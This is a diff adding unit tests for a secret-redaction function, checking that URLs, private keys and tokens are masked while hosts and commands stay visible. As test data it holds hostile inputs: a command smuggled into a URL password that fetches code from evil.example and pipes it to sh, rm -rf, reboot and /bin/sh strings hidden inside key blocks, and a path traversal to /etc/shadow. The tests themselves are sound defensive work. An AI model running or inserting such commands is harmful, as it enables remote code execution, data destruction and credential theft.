@@ -40,6 +40,51 @@ it("P7: a password in a URL hides the password", () => {
 });
 
 it.each([
+  ["https://u:(secret, 1 characters, not shown)@evil.example?@crm.example", "https://u:p@evil.example?@crm.example"],
+  ["https://u:(secret, 1 characters, not shown)@evil.example#@crm.example", "https://u:p@evil.example#@crm.example"],
+  [String.raw`https://u:(secret, 1 characters, not shown)@evil.example\@crm.example`, String.raw`https://u:p@evil.example\@crm.example`],
+  ["https://evil.example:443?x@crm.example", "https://evil.example:443?x@crm.example"],
+  ["https://evil.example:000443#x@crm.example", "https://evil.example:000443#x@crm.example"],
+  ["sqlserver://evil.example:1433;user=x@crm.example", "sqlserver://evil.example:1433;user=x@crm.example"],
+  ["postgres://u:(secret, 3 characters, not shown)@db", "postgres://u:p?x@db"],
+])("P7: what looks like a password hides no host: %s", (shown, text) => expect(withoutSecrets(text)).toBe(shown));
+
+it("P7: what looks like a password and is a command is said to be one", () => {
+  expect(withoutSecrets("curl https://u:p;wget${IFS}evil.example|sh;@crm.example/health")).toBe(
+    "curl https://u:(secret, 28 characters with shell syntax, not shown)@crm.example/health",
+  );
+});
+
+it("P7: a command as long as a line of a key is shown", () => {
+  const [path, flags] = ["/".repeat(40), `-${"r".repeat(40)}f`];
+  const marks = [27, 25].map((characters) => `(secret, ${characters} characters, not shown)`);
+  const between = (text: string) => `-----BEGIN PRIVATE KEY-----${text}-----END PRIVATE KEY-----`;
+  const x11 = `/usr/bin${"/X11".repeat(10)}/reboot`;
+  for (const text of [`\n${path}bin/rm ${flags} ${path}home\n`, `|${path}bin/sh|`, `\n${x11}\n`, "\nreboot\n", `\n${x11}\nreboot\n`])
+    expect(withoutSecrets(between(text))).toBe(marks.join(text));
+  expect(withoutSecrets(`export SECRET_ACCESS_KEY=\n${x11}`)).toBe(`export SECRET_ACCESS_KEY=\n${x11}`);
+});
+
+it("P7: a command between the lines of a key is shown", () => {
+  const marked = `-----BEGIN PRIVATE KEY-----\n${PEM_LINE}`;
+  const shown = withoutSecrets(`${marked}\n${"/".repeat(40)}bin/reboot\n${PEM_LINE}`);
+  expect(shown).toBe(`(secret, ${marked.length} characters, not shown)\n${"/".repeat(40)}bin/reboot\n(secret, 64 characters, not shown)`);
+});
+
+it("P7: a path behind what looks like a token is shown", () => {
+  for (const token of ["npm_aaaaaaaaaaaa", "whsec_aaaaaaaaaaaa"])
+    expect(withoutSecrets(`cat ${token}/../../etc/shadow`)).toMatch(/^cat \(secret, 1\d characters, not shown\).?\.\.\/\.\.\/etc\/shadow$/);
+});
+
+it.each(["n2xvbgztmw==", "Aw==", "d2k", "x/9Kd0Fb", "0a1b2c3d", PEM_LINE.slice(0, 39), PEM_LINE])(
+  "P7: a key that ends with %s is hidden",
+  (end) => {
+    const whole = key("\n").replace("c2hvcnQ=", end);
+    expect(withoutSecrets(whole)).toBe(`(secret, ${whole.length} characters, not shown)`);
+  },
+);
+
+it.each([
   ["AWS_SECRET_ACCESS_KEY=", " AWS_SESSION_TOKEN="],
   ['"SecretAccessKey": "', '", "SessionToken": "'],
   [String.raw`{\"secretAccessKey\":\"`, String.raw`\",\"sessionToken\":\"`],
